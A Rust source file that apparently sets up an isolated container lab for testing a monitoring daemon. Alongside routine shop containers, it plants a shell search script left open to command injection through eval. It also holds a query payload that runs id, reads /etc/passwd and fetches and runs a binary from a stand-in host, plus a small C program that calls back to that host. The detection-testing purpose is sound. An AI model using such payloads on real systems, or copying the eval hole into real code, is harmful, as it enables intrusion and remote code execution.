//! What is watched: containers that do what they do every day, and somebody who makes the
//! search of a shop run programs of his own.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::thread::sleep;
use std::time::Duration;

use anyhow::{Context as _, Result};
use image_tar::Layer;

use super::screen::Screen;
use super::{end, path};
use crate::process::{read, run};

/// An address of the internet, for examples: only the containers have it.
const FAR: &str = "203.0.113.7";

/// Names, images and what they run.
const CONTAINERS: [(&str, &str, &str); 5] = [
    ("shop", "registry.example/shop:2.3", "exec httpd -f -p 8080 -h /www"),
    (
        "orders",
        "registry.example/orders:1.9",
        "while sleep 0.7; do n=$((n+1)); date > /var/lib/orders/$n; done",
    ),
    ("cart", "registry.example/cart:3.1", "while sleep 1.3; do date > /tmp/cart; done"),
    (
        "mail",
        "registry.example/mail:1.2",
        "httpd -p 8025 -h /www; while sleep 1; do wget -q -O /dev/null \
         http://127.0.0.1:8025/; done",
    ),
    (
        "payments",
        "registry.example/payments:4.0",
        "httpd -p 8080 -h /www; while sleep 0.4; do wget -q -O /dev/null \
         http://127.0.0.1:8080/; done",
    ),
];

/// The programs of the images, each a file of its own, so that it has its own name.
const PROGRAMS: &[&str] = &["cat", "chmod", "date", "grep", "httpd", "id", "ls", "sleep", "wget"];

/// Debian's shell, which runs programs where busybox's does what they do by itself.
const SHELL: [(&str, &str); 3] = [
    ("/bin/dash", "bin/sh"),
    ("/lib/x86_64-linux-gnu/libc.so.6", "lib/x86_64-linux-gnu/libc.so.6"),
    ("/lib64/ld-linux-x86-64.so.2", "lib64/ld-linux-x86-64.so.2"),
];

/// The search of the shop. What is searched for becomes a part of a command: that is its hole.
const SEARCH: &str = "#!/bin/sh\n\
    echo 'Content-Type: text/plain'\n\
    echo\n\
    IFS=+; set -- $QUERY_STRING; IFS=' '\n\
    eval \"grep -i $* /www/products\"\n";

/// What is searched for.
const QUERY: &str = "tea+/dev/null;id;cat+/etc/passwd;wget+-qO+/tmp/worker+203.0.113.7/worker;\
    chmod+755+/tmp/worker;/tmp/worker+203.0.113.7>/dev/null&";

/// What is fetched: it connects, and waits.
const WORKER: &str = "\
    #include <arpa/inet.h>\n\
    #include <unistd.h>\n\
    int main(int count, char **words) {\n\
      struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(443)};\n\
      if (count < 2 || inet_pton(AF_INET, words[1], &to.sin_addr) != 1) return 2;\n\
      int fd = socket(AF_INET, SOCK_STREAM, 0);\n\
      if (connect(fd, (struct sockaddr *)&to, sizeof to) != 0) return 1;\n\
      return sleep(120);\n\
    }\n";

/// The containers, and who answers them; all of it ends when this is dropped.
pub(super) struct Scene {
    dir: PathBuf,
    far: Vec<Child>,
}

impl Scene {
    pub(super) fn start(dir: &Path) -> Result<Self> {
        let mut scene = Self { dir: dir.to_owned(), far: Vec::new() };
        let root = dir.join("root.tar");
        fs::write(&root, image()?)?;
        for (name, image, command) in CONTAINERS {
            run(scene
                .podman()
                .arg("import")
                .arg(&root)
                .arg(image)
                .stdout(Stdio::null())
                .stderr(Stdio::null()))?;
            let mut start = scene.podman();
            start.args(["run", "--detach", "--network=none", "--name", name, "--hostname", name]);
            start.args(["--ulimit", "nofile=1024:4096", "--ulimit", "nproc=1024:4096"]);
            run(start.args([image, "sh", "-c", command]).stdout(Stdio::null()))?;
        }
        scene.make_far()?;
        Ok(scene)
    }

    /// What the daemon is told of.
    pub(super) fn config(&self, dir: &Path) -> String {
        format!(
            "node: node-1\nrun_dir: {}\nstate_dir: {}\nweb:\n  listen: 127.0.0.1:0\n\
             runtime_roots:\n- kind: podman\n  state: {}\n- kind: podman\n  state: {}\n",
            path(dir, "run"),
            path(dir, "state"),
            path(&self.dir, "podman/root"),
            path(&self.dir, "podman/run"),
        )
    }

    fn podman(&self) -> Command {
        let mut podman = Command::new("podman");
        for (option, place) in [("--root", "root"), ("--runroot", "run"), ("--tmpdir", "tmp")] {
            podman.arg(option).arg(self.dir.join("podman").join(place));
        }
        podman.args(["--runtime=runc", "--cgroup-manager=cgroupfs", "--events-backend=none"]);
        podman
    }

    /// A command in the network of the shop, but not in the shop.
    fn in_network(&self, command: &[&str]) -> Result<Command> {
        let pid = read(self.podman().args(["inspect", "--format", "{{.State.Pid}}", "shop"]))?;
        let mut enter = Command::new("nsenter");
        enter.arg("--target").arg(pid.trim()).arg("--net").args(command);
        Ok(enter)
    }

    /// Somebody far away, who has a file and takes connections.
    fn make_far(&mut self) -> Result<()> {
        run(&mut self.in_network(&["ip", "address", "add", &format!("{FAR}/32"), "dev", "lo"])?)?;
        let files = self.dir.join("far");
        fs::create_dir_all(&files)?;
        fs::write(files.join("worker.c"), WORKER)?;
        let mut compiler = Command::new("gcc");
        compiler.args(["-static", "-Os", "-s", "-o"]).arg(files.join("worker"));
        run(compiler.arg(files.join("worker.c")))?;
        for port in ["80", "443"] {
            let place = format!("{FAR}:{port}");
            let mut server =
                self.in_network(&["/bin/busybox", "httpd", "-f", "-p", &place, "-h"])?;
            self.far.push(server.arg(&files).spawn().context("start a server")?);
        }
        sleep(Duration::from_secs(1));
        Ok(())
    }

    /// A person opens a shell in the shop.
    pub(super) fn look_around(&self, screen: &Screen) -> Result<()> {
        let podman = self.podman();
        let words = [podman.get_program()].into_iter().chain(podman.get_args());
        let words: Vec<String> = words.map(|word| word.to_string_lossy().into_owned()).collect();
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        screen.open("shell", (80, 24), &[&words[..], &["exec", "-it", "shop", "sh"]].concat())?;
        sleep(Duration::from_secs(3));
        for line in ["ls /www", "exit"] {
            screen.press("shell", &[line, "Enter"])?;
            sleep(Duration::from_secs(1));
        }
        Ok(())
    }

    /// Somebody searches for what is no product.
    pub(super) fn attack(&self) -> Result<()> {
        let address = format!("http://127.0.0.1:8080/cgi-bin/search?{QUERY}");
        let mut ask = self.in_network(&["/bin/busybox", "wget", "-q", "-O", "-", &address])?;
        run(ask.stdout(Stdio::null()).stderr(Stdio::null()))
    }
}

impl Drop for Scene {
    fn drop(&mut self) {
        self.far.iter_mut().for_each(end);
        drop(self.podman().args(["rm", "--all", "--force", "--time=0"]).output());
        // Its storage is mounted by itself, for as long as anything of it still ends.
        let mounted = self.dir.join("podman/root/overlay");
        for _ in 0..20 {
            let unmounted = Command::new("umount").arg("--recursive").arg(&mounted).output();
            if unmounted.is_ok_and(|it| it.status.success()) {
                break;
            }
            sleep(Duration::from_millis(250));
        }
    }
}

/// The root file system of all containers.
fn image() -> Result<Vec<u8>> {
    let busybox = fs::read("/bin/busybox").context("/bin/busybox (busybox-static)")?;
    let mut layer = Layer::default();
    for (path, mode) in [
        ("bin", 0o755),
        ("etc", 0o755),
        ("lib", 0o755),
        ("lib/x86_64-linux-gnu", 0o755),
        ("lib64", 0o755),
        ("www", 0o755),
        ("www/cgi-bin", 0o755),
        ("tmp", 0o1777),
        ("var", 0o755),
        ("var/lib", 0o755),
        ("var/lib/orders", 0o755),
    ] {
        layer.directory(path, mode)?;
    }
    for name in PROGRAMS {
        layer.file(&format!("bin/{name}"), 0o755, &busybox)?;
    }
    for (from, to) in SHELL {
        layer.file(to, 0o755, &fs::read(from).context(from)?)?;
    }
    layer.file("etc/passwd", 0o644, b"root:x:0:0:root:/root:/bin/sh\n")?;
    layer.file("www/index.html", 0o644, b"Welcome.\n")?;
    layer.file("www/products", 0o644, b"Green tea\nBlack tea\nCoffee\n")?;
    layer.file("www/cgi-bin/search", 0o755, SEARCH.as_bytes())?;
    Ok(layer.into_tar()?)
}
